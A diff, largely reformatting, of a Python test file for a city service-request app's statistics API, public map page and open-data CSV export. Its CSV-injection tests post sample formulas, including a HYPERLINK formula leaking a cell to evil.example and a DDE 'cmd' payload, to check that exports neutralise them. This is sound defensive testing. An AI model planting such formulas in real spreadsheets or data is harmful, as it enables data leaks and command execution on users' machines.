@@ -37,19 +37,48 @@ def get(client: Any, headers: dict[str, str], **params: str) -> Any:
     return client.get("/api/v1/citistat", query_string={**PERIOD, **params}, headers=headers)
 
 
-def test_json_per_service_type_with_total(client: Any, history: History, dispatcher: dict[str, str]) -> None:
+def test_json_per_service_type_with_total(
+    client: Any, history: History, dispatcher: dict[str, str]
+) -> None:
     r = get(client, dispatcher, group_by="service_type")
     assert r.status_code == 200, r.get_json()
     body = r.get_json()
-    assert (body["from"], body["to"], body["timezone"], body["group_by"]) == ("2026-03-02", "2026-03-15", "Europe/Andorra", "service_type")
+    assert (body["from"], body["to"], body["timezone"], body["group_by"]) == (
+        "2026-03-02",
+        "2026-03-15",
+        "Europe/Andorra",
+        "service_type",
+    )
     rows = {row["group"]: row for row in body["rows"]}
     assert set(rows) == {"pothole", "graffiti"}
     p = rows["pothole"]
-    assert (p["label"], p["received"], p["duplicates"], p["closed"], p["closed_fixed_verified"]) == ("Pothole", 5, 1, 3, 2)
-    assert (p["median_hours_to_close"], p["reopened"], p["ever_closed"], p["completions"]) == (20.0, 2, 4, 5)
+    assert (
+        p["label"],
+        p["received"],
+        p["duplicates"],
+        p["closed"],
+        p["closed_fixed_verified"],
+    ) == ("Pothole", 5, 1, 3, 2)
+    assert (p["median_hours_to_close"], p["reopened"], p["ever_closed"], p["completions"]) == (
+        20.0,
+        2,
+        4,
+        5,
+    )
     t = body["total"]
-    assert (t["received"], t["closed"], t["closed_other"]["cancelled"], t["completions_rejected"]) == (9, 6, 1, 1)
-    assert (t["shift_hours"], t["drive_hours"], t["on_site_hours"], t["planned_stops"], t["planned_done"]) == (26.0, 2.0, 5.75, 3, 2)
+    assert (
+        t["received"],
+        t["closed"],
+        t["closed_other"]["cancelled"],
+        t["completions_rejected"],
+    ) == (9, 6, 1, 1)
+    assert (
+        t["shift_hours"],
+        t["drive_hours"],
+        t["on_site_hours"],
+        t["planned_stops"],
+        t["planned_done"],
+    ) == (26.0, 2.0, 5.75, 3, 2)
     assert rows["pothole"]["shift_hours"] is None
 
 
@@ -63,8 +92,13 @@ def test_json_per_service_type_with_total(client: Any, history: History, dispatc
         ("week", {"2026-03-02": 5, "2026-03-09": 4}),
     ],
 )
-def test_every_group_by(client: Any, history: History, dispatcher: dict[str, str], group_by: str,
-                        expected: dict[str | None, int]) -> None:
+def test_every_group_by(
+    client: Any,
+    history: History,
+    dispatcher: dict[str, str],
+    group_by: str,
+    expected: dict[str | None, int],
+) -> None:
     r = get(client, dispatcher, group_by=group_by)
     assert r.status_code == 200, r.get_json()
     body = r.get_json()
@@ -72,7 +106,9 @@ def test_every_group_by(client: Any, history: History, dispatcher: dict[str, str
     assert body["total"]["received"] == 9
 
 
-def test_csv_by_format_and_by_accept_header(client: Any, history: History, dispatcher: dict[str, str]) -> None:
+def test_csv_by_format_and_by_accept_header(
+    client: Any, history: History, dispatcher: dict[str, str]
+) -> None:
     r = get(client, dispatcher, group_by="crew", format="csv")
     assert r.status_code == 200
     assert r.mimetype == "text/csv"
@@ -82,14 +118,31 @@ def test_csv_by_format_and_by_accept_header(client: Any, history: History, dispa
     assert [row["group"] for row in rows] == ["c1", "c2", "", ""]
     assert rows[-1]["label"] == "Total"
     c2 = rows[1]
-    assert (c2["received"], c2["closed_not_found"], c2["completions"], c2["shift_hours"], c2["jobs_per_shift_hour"]) == ("2", "1", "4", "10.0", "0.3")
-    assert (rows[-1]["backlog_gt_30d"], rows[-1]["on_site_hours"], rows[-1]["planned_done"]) == ("3", "5.75", "2")
-    by_header = client.get("/api/v1/citistat", query_string={**PERIOD, "group_by": "crew"},
-                           headers={**dispatcher, "Accept": "text/csv"})
+    assert (
+        c2["received"],
+        c2["closed_not_found"],
+        c2["completions"],
+        c2["shift_hours"],
+        c2["jobs_per_shift_hour"],
+    ) == ("2", "1", "4", "10.0", "0.3")
+    assert (rows[-1]["backlog_gt_30d"], rows[-1]["on_site_hours"], rows[-1]["planned_done"]) == (
+        "3",
+        "5.75",
+        "2",
+    )
+    by_header = client.get(
+        "/api/v1/citistat",
+        query_string={**PERIOD, "group_by": "crew"},
+        headers={**dispatcher, "Accept": "text/csv"},
+    )
     assert by_header.mimetype == "text/csv"
     # Generated at a different instant: the open-age figures may differ, the rest not.
-    assert by_header.get_data(as_text=True).splitlines()[0] == r.get_data(as_text=True).splitlines()[0]
-    as_json = client.get("/api/v1/citistat", query_string=PERIOD, headers={**dispatcher, "Accept": "*/*"})
+    assert (
+        by_header.get_data(as_text=True).splitlines()[0] == r.get_data(as_text=True).splitlines()[0]
+    )
+    as_json = client.get(
+        "/api/v1/citistat", query_string=PERIOD, headers={**dispatcher, "Accept": "*/*"}
+    )
     assert as_json.mimetype == "application/json"
 
 
@@ -103,8 +156,9 @@ def test_csv_by_format_and_by_accept_header(client: Any, history: History, dispa
         ({"format": "xlsx"}, "format"),
     ],
 )
-def test_bad_input_is_a_422_json_error(client: Any, db: Session, dispatcher: dict[str, str], params: dict[str, str],
-                                       field: str) -> None:
+def test_bad_input_is_a_422_json_error(
+    client: Any, db: Session, dispatcher: dict[str, str], params: dict[str, str], field: str
+) -> None:
     r = client.get("/api/v1/citistat", query_string={**PERIOD, **params}, headers=dispatcher)
     assert r.status_code == 422
     body = r.get_json()
@@ -120,7 +174,9 @@ def test_roles(client: Any, db: Session) -> None:
     assert r.status_code == 403 and r.get_json()["code"] == 403
     for role in ("dispatcher", "supervisor", "admin"):
         headers = f.token_for(db, f.user(db, f"{role}@example.org", role))
-        assert client.get("/api/v1/citistat", query_string=PERIOD, headers=headers).status_code == 200, role
+        assert (
+            client.get("/api/v1/citistat", query_string=PERIOD, headers=headers).status_code == 200
+        ), role
 
 
 def test_documented_in_openapi(client: Any) -> None:
@@ -133,7 +189,9 @@ def test_documented_in_openapi(client: Any) -> None:
 # -- the public page ----------------------------------------------------------------
 
 
-def test_public_page_shows_the_numbers_without_scripts_or_people(client: Any, history: History) -> None:
+def test_public_page_shows_the_numbers_without_scripts_or_people(
+    client: Any, history: History
+) -> None:
     r = client.get("/citistat", query_string=PERIOD)
     assert r.status_code == 200
     assert r.mimetype == "text/html"
@@ -168,31 +226,52 @@ def _page(client: Any, **params: str) -> str:
 
 def _district_titles(html: str) -> dict[str, str]:
     """{district code: its shape's <title>} from the map."""
-    return dict(re.findall(r'<g class="district" data-code="([^"]+)"><title>([^<]*)</title><path [^>]*d="M', html))
+    return dict(
+        re.findall(
+            r'<g class="district" data-code="([^"]+)"><title>([^<]*)</title><path [^>]*d="M', html
+        )
+    )
 
 
 @pytest.mark.parametrize("shade", ["on_time", "backlog", "verified", None])
-def test_public_page_map_shades_every_district_by_the_chosen_figure(client: Any, history: History,
-                                                                    dispatcher: dict[str, str], shade: str | None) -> None:
+def test_public_page_map_shades_every_district_by_the_chosen_figure(
+    client: Any, history: History, dispatcher: dict[str, str], shade: str | None
+) -> None:
     html = _page(client, **({"shade": shade} if shade else {}))
-    figures = {row["group"]: row for row in get(client, dispatcher, group_by="district").get_json()["rows"]}
+    figures = {
+        row["group"]: row for row in get(client, dispatcher, group_by="district").get_json()["rows"]
+    }
     north, south = figures["north"], figures["south"]
 
     def as_pct(share: float) -> str:
         return f"{share * 100:.1f} %"
 
     def verified(row: dict[str, Any]) -> str:
-        return as_pct((row["completions_auto_verified"] + row["completions_verified_by_supervisor"]) / row["completions"])
+        return as_pct(
+            (row["completions_auto_verified"] + row["completions_verified_by_supervisor"])
+            / row["completions"]
+        )
 
     expected = {
-        None: ("On-time rate", "on-time rate", as_pct(north["on_time_rate"]), as_pct(south["on_time_rate"])),
+        None: (
+            "On-time rate",
+            "on-time rate",
+            as_pct(north["on_time_rate"]),
+            as_pct(south["on_time_rate"]),
+        ),
         "backlog": ("Backlog", "backlog", str(north["open"]), str(south["open"])),
         "verified": ("Verified share", "verified share", verified(north), verified(south)),
     }[None if shade == "on_time" else shade]
     label, lower, north_value, south_value = expected
-    assert (north["on_time_rate"], north["open"]) == (0.6, 2)  # the history's (tests/core/test_citistat.py)
+    assert (north["on_time_rate"], north["open"]) == (
+        0.6,
+        2,
+    )  # the history's (tests/core/test_citistat.py)
     # One shape per district of the city, each with its name and figure in its <title>.
-    assert _district_titles(html) == {"north": f"North: {lower} {north_value}", "south": f"South: {lower} {south_value}"}
+    assert _district_titles(html) == {
+        "north": f"North: {lower} {north_value}",
+        "south": f"South: {lower} {south_value}",
+    }
     assert f"<figcaption>Districts shaded by {lower}</figcaption>" in html
     # The legend: the scale's classes with their numbers, under the figure's name.
     legend = re.search(r'<ul class="legend"[^>]*>(.*?)</ul>', html, re.S)
@@ -203,22 +282,33 @@ def test_public_page_map_shades_every_district_by_the_chosen_figure(client: Any,
     assert re.search(rf'<p class="legend-title" id="legend-title">{label}', html)
     # Each district labelled on the map with its name and figure.
     for name, value in (("North", north_value), ("South", south_value)):
-        assert re.search(rf'<tspan [^>]*>{name}</tspan><tspan [^>]*class="figure">{re.escape(value)}</tspan>', html)
+        assert re.search(
+            rf'<tspan [^>]*>{name}</tspan><tspan [^>]*class="figure">{re.escape(value)}</tspan>',
+            html,
+        )
     # The choice is a plain link per figure (the current one marked), kept by the period form.
-    links = re.findall(r'<a href="/citistat\?from=2026-03-02&amp;to=2026-03-15&amp;shade=(\w+)#map"( aria-current="true")?>', html)
+    links = re.findall(
+        r'<a href="/citistat\?from=2026-03-02&amp;to=2026-03-15&amp;shade=(\w+)#map"( aria-current="true")?>',
+        html,
+    )
     assert [k for k, _ in links] == ["on_time", "backlog", "verified"]
     assert [k for k, current in links if current] == [shade or "on_time"]
     assert f'<input type="hidden" name="shade" value="{shade or "on_time"}">' in html
     assert "<script" not in html
 
 
-def test_public_page_map_marks_a_district_without_a_value(client: Any, db: Session, history: History) -> None:
+def test_public_page_map_marks_a_district_without_a_value(
+    client: Any, db: Session, history: History
+) -> None:
     f.district(db, "quiet", (1.55, 42.49, 1.60, 42.52))
     db.commit()
     html = _page(client)
     # A district with no request in the period is hatched, not shaded as if it had a figure.
-    assert re.search(r'<g class="district" data-code="quiet"><title>Quiet: on-time rate nothing closed or due yet</title>'
-                     r'<path class="nodata" fill="url\(#nodata\)"', html)
+    assert re.search(
+        r'<g class="district" data-code="quiet"><title>Quiet: on-time rate nothing closed or due yet</title>'
+        r'<path class="nodata" fill="url\(#nodata\)"',
+        html,
+    )
     assert "nothing closed or due yet</li>" in html  # and the legend says what the hatch means
     backlog = _page(client, shade="backlog")
     assert '<g class="district" data-code="quiet"><title>Quiet: backlog 0</title>' in backlog
@@ -236,8 +326,10 @@ def test_public_page_map_escapes_district_names(client: Any, db: Session) -> Non
 def test_public_page_map_simplifies_a_detailed_ward(client: Any, db: Session) -> None:
     # A round ward traced with 20 000 vertices, as OSM boundaries are: drawn with a few
     # hundred points at most (half a pixel), still round and still where it is.
-    db.execute(text("""INSERT INTO districts (code, name, geom) VALUES ('round', 'Round',
-        ST_Multi(ST_Buffer(ST_SetSRID(ST_MakePoint(1.52, 42.50), 4326)::geography, 2000, 5000)::geometry))"""))
+    db.execute(
+        text("""INSERT INTO districts (code, name, geom) VALUES ('round', 'Round',
+        ST_Multi(ST_Buffer(ST_SetSRID(ST_MakePoint(1.52, 42.50), 4326)::geography, 2000, 5000)::geometry))""")
+    )
     db.commit()
     assert db.scalar(text("SELECT ST_NPoints(geom) FROM districts WHERE code = 'round'")) > 20_000
     html = _page(client)
@@ -260,13 +352,19 @@ def test_public_page_without_districts_has_no_map(client: Any, db: Session) -> N
 def test_public_page_refuses_an_unknown_figure(client: Any, history: History) -> None:
     r = client.get("/citistat", query_string={**PERIOD, "shade": "colour"})
     assert r.status_code == 422
-    assert "must be one of on_time, backlog, verified, got &#39;colour&#39;" in r.get_data(as_text=True)
+    assert "must be one of on_time, backlog, verified, got &#39;colour&#39;" in r.get_data(
+        as_text=True
+    )
     assert "default-src 'none'" in r.headers["Content-Security-Policy"]
 
 
 def test_public_page_charts_have_captions_and_axis_labels(client: Any, history: History) -> None:
     html = _page(client)
-    figures = re.findall(r"<figure>\s*<figcaption>([^<]+)</figcaption>\s*(<svg class=\"(?:chart|map)\".*?</svg>)", html, re.S)
+    figures = re.findall(
+        r"<figure>\s*<figcaption>([^<]+)</figcaption>\s*(<svg class=\"(?:chart|map)\".*?</svg>)",
+        html,
+        re.S,
+    )
     charts = [(caption, svg) for caption, svg in figures if 'class="chart"' in svg[:20]]
     assert len(charts) == 7
     assert "Median time to close, by district" in [c for c, _ in charts]
@@ -280,8 +378,17 @@ def test_public_page_charts_have_captions_and_axis_labels(client: Any, history: 
         assert len(titles) == 2, (caption, titles)
         assert len(re.findall(r'<text class="tick"', svg)) >= 2, caption
     on_time = dict(charts)["On-time rate, by district"]
-    assert re.findall(r'<text class="axis-title"[^>]*>([^<]+)</text>', on_time) == ["District", "on time (% of closed and late open)"]
-    assert [t for t in re.findall(r'<text class="tick"[^>]*>([^<]+)</text>', on_time)] == ["0", "25", "50", "75", "100"]
+    assert re.findall(r'<text class="axis-title"[^>]*>([^<]+)</text>', on_time) == [
+        "District",
+        "on time (% of closed and late open)",
+    ]
+    assert [t for t in re.findall(r'<text class="tick"[^>]*>([^<]+)</text>', on_time)] == [
+        "0",
+        "25",
+        "50",
+        "75",
+        "100",
+    ]
     assert re.search(r"svg text \{ font: 13px", html)
 
 
@@ -302,11 +409,25 @@ def test_page_scales_and_projection() -> None:
     from api.citistat_map import Projection, label_lines, scale_for
 
     rates = scale_for([0.72, 0.95, 1.0], rate=True)
-    assert [rates.label(i) for i in range(rates.count)] == ["70–76 %", "76–82 %", "82–88 %", "88–94 %", "94–100 %"]
+    assert [rates.label(i) for i in range(rates.count)] == [
+        "70–76 %",
+        "76–82 %",
+        "82–88 %",
+        "88–94 %",
+        "94–100 %",
+    ]
     assert [rates.index(v) for v in (0.70, 0.76, 0.759, 1.0)] == [0, 1, 0, 4]
     assert scale_for([], rate=True).label(0) == "0–20 %"
-    low = scale_for([0.208, 0.5, 0.26], rate=True)  # the demo city's fortnight: all between 20 and 50 %
-    assert [low.label(i) for i in range(5)] == ["20–26 %", "26–32 %", "32–38 %", "38–44 %", "44–50 %"]
+    low = scale_for(
+        [0.208, 0.5, 0.26], rate=True
+    )  # the demo city's fortnight: all between 20 and 50 %
+    assert [low.label(i) for i in range(5)] == [
+        "20–26 %",
+        "26–32 %",
+        "32–38 %",
+        "38–44 %",
+        "44–50 %",
+    ]
     assert [low.index(v) for v in (0.208, 0.26, 0.5)] == [0, 1, 4]
     assert [scale_for([1.0, 1.0], rate=True).label(i) for i in (0, 4)] == ["90–92 %", "98–100 %"]
     counts = scale_for([0, 3, 14], rate=False)
@@ -330,14 +451,19 @@ def test_public_page_bad_dates(client: Any, db: Session) -> None:
     assert r.status_code == 422
     assert "is after" in r.get_data(as_text=True)
     assert client.get("/citistat", query_string={"from": "nope"}).status_code == 422
-    assert client.get("/citistat", query_string={"from": "2024-01-01", "to": "2026-01-01"}).status_code == 422
+    assert (
+        client.get("/citistat", query_string={"from": "2024-01-01", "to": "2026-01-01"}).status_code
+        == 422
+    )
 
 
 # -- open data ------------------------------------------------------------------------
 
 
 def test_open_data_export_columns_and_no_private_data(client: Any, history: History) -> None:
-    r = client.get("/open-data/requests.csv", query_string={"from": "2026-01-01", "to": "2026-03-31"})
+    r = client.get(
+        "/open-data/requests.csv", query_string={"from": "2026-01-01", "to": "2026-03-31"}
+    )
     assert r.status_code == 200
     assert r.mimetype == "text/csv"
     assert r.is_streamed
@@ -348,12 +474,26 @@ def test_open_data_export_columns_and_no_private_data(client: Any, history: Hist
     assert len(rows) == 12
     g0 = next(row for row in rows if row["id"] == history.requests["G0"].public_id)
     assert g0 == {
-        "id": history.requests["G0"].public_id, "created": "2026-03-02T00:30:00+01:00", "closed": "2026-03-02T01:30:00+01:00",
-        "agency": "Sanitation", "type": "graffiti", "type_name": "Graffiti", "descriptor": history.requests["G0"].description,
-        "status": "closed", "resolution": "cancelled", "district": "", "lat": f"{f.LAT:.6f}", "long": f"{f.LON:.6f}",
+        "id": history.requests["G0"].public_id,
+        "created": "2026-03-02T00:30:00+01:00",
+        "closed": "2026-03-02T01:30:00+01:00",
+        "agency": "Sanitation",
+        "type": "graffiti",
+        "type_name": "Graffiti",
+        "descriptor": history.requests["G0"].description,
+        "status": "closed",
+        "resolution": "cancelled",
+        "district": "",
+        "lat": f"{f.LAT:.6f}",
+        "long": f"{f.LON:.6f}",
     }
     p3 = next(row for row in rows if row["id"] == history.requests["P3"].public_id)
-    assert (p3["status"], p3["resolution"], p3["closed"], p3["district"]) == ("open", "", "", "north")
+    assert (p3["status"], p3["resolution"], p3["closed"], p3["district"]) == (
+        "open",
+        "",
+        "",
+        "north",
+    )
     for private in ("resident@example.org", "555 0101", "tok-secret", "@"):
         assert private not in text_body
     for req in history.requests.values():
@@ -364,14 +504,22 @@ def test_open_data_period_and_bad_input(client: Any, history: History) -> None:
     r = client.get("/open-data/requests.csv", query_string=PERIOD)
     assert len(list(csv.DictReader(io.StringIO(r.get_data(as_text=True))))) == 9
     bad = client.get("/open-data/requests.csv", query_string={"from": "2026-13-01"})
-    assert bad.status_code == 422 and bad.get_json()["errors"] == {"from": [bad.get_json()["message"]]}
+    assert bad.status_code == 422 and bad.get_json()["errors"] == {
+        "from": [bad.get_json()["message"]]
+    }
 
 
 # -- spreadsheet formulas (CSV injection) -----------------------------------------------------
 
 # What a spreadsheet would run: each begins with a character that starts a formula.
-FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "+1", "-2+3", "@SUM(A1:A9)",
-            "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+    "+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def _quoted(cell: str) -> str:
@@ -395,12 +543,21 @@ def test_open_data_csv_turns_residents_formulas_into_text(client: Any, db: Sessi
     sent = []
     for i, text in enumerate([*FORMULAS, "A plain pothole, 30 cm"]):
         lon = "-3.5" if i == 0 else str(f.LON)
-        r = client.post("/open311/v2/requests.json", data={
-            "api_key": f.API_KEY, "service_code": "litter" if i == 1 else "pothole", "lat": str(f.LAT), "long": lon,
-            "description": text})
+        r = client.post(
+            "/open311/v2/requests.json",
+            data={
+                "api_key": f.API_KEY,
+                "service_code": "litter" if i == 1 else "pothole",
+                "lat": str(f.LAT),
+                "long": lon,
+                "description": text,
+            },
+        )
         assert r.status_code == 201, r.data
         sent.append(text.strip())  # intake trims what a resident typed
-    r = client.get("/open-data/requests.csv", query_string={"from": _today(client), "to": _today(client)})
+    r = client.get(
+        "/open-data/requests.csv", query_string={"from": _today(client), "to": _today(client)}
+    )
     assert r.status_code == 200
     body = r.get_data(as_text=True)
     rows = list(csv.DictReader(io.StringIO(body)))
@@ -409,22 +566,35 @@ def test_open_data_csv_turns_residents_formulas_into_text(client: Any, db: Sessi
     # No text cell of the file starts a formula; each is quoted in the file itself.
     for row in rows:
         for column in ("id", "agency", "type", "type_name", "descriptor", "status", "district"):
-            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
+            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (
+                column,
+                row[column],
+            )
     assert _quoted("'" + FORMULAS[0]) in body
     assert _quoted("'\t=cmd|' /C calc'!A0") in body
     # Coordinates are numbers: bare in the file, negative sign and all.
     west = next(row for row in rows if row["descriptor"].startswith("'=HYPERLINK"))
     assert (west["lat"], west["long"]) == (f"{f.LAT:.6f}", "-3.500000")
-    assert f',{f.LAT:.6f},-3.500000\r\n' in body
+    assert f",{f.LAT:.6f},-3.500000\r\n" in body
 
 
-def test_staff_citistat_csv_turns_formulas_in_names_into_text(client: Any, db: Session, dispatcher: dict[str, str]) -> None:
+def test_staff_citistat_csv_turns_formulas_in_names_into_text(
+    client: Any, db: Session, dispatcher: dict[str, str]
+) -> None:
     for i, name in enumerate(FORMULAS):
         f.service_type(db, f"type_{i}", name=name)
         f.report(db, f"type_{i}")
     db.commit()
-    r = client.get("/api/v1/citistat", query_string={"from": _today(client), "to": _today(client),
-                                                       "group_by": "service_type", "format": "csv"}, headers=dispatcher)
+    r = client.get(
+        "/api/v1/citistat",
+        query_string={
+            "from": _today(client),
+            "to": _today(client),
+            "group_by": "service_type",
+            "format": "csv",
+        },
+        headers=dispatcher,
+    )
     assert r.status_code == 200 and r.mimetype == "text/csv"
     body = r.get_data(as_text=True)
     rows = list(csv.DictReader(io.StringIO(body)))
